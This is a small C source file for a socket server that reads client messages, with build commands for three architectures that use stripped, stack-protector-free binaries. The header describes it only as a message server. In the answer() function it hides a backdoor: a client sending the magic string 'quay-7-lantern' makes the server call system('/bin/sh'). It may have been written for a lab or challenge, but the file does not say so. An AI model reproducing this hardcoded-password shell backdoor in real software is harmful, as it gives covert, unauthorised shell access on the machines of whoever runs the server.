/* A server that takes its input as messages.
 * x86_64-linux-gnu-gcc -O2 -s -fno-stack-protector -Wl,--build-id=none,-z,noseparate-code,-z,max-page-size=4096 messages.c
 * -o messages-amd64; aarch64-linux-gnu-gcc and arm-linux-gnueabi-gcc with the same options make messages-arm64 and -armel.
 */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((noinline)) static int answer(int client)
{
    char *line = malloc(512);
    struct iovec buffer = { line, 511 };
    struct msghdr header = { 0 };
    ssize_t count;
    header.msg_iov = &buffer;
    header.msg_iovlen = 1;
    count = recvmsg(client, &header, 0);
    if (count <= 0)
        return -1;
    line[count] = 0;
    if (!strcmp(line, "quay-7-lantern"))
        return system("/bin/sh");
    if (!strcmp(line, "status"))
        return (int)write(client, "ok\n", 3);
    free(line);
    return 0;
}

int main(int argc, char **argv)
{
    int listener = argc > 1 ? atoi(argv[1]) : 3;
    for (;;) {
        int client = accept(listener, 0, 0);
        if (client >= 0)
            answer(client);
    }
}
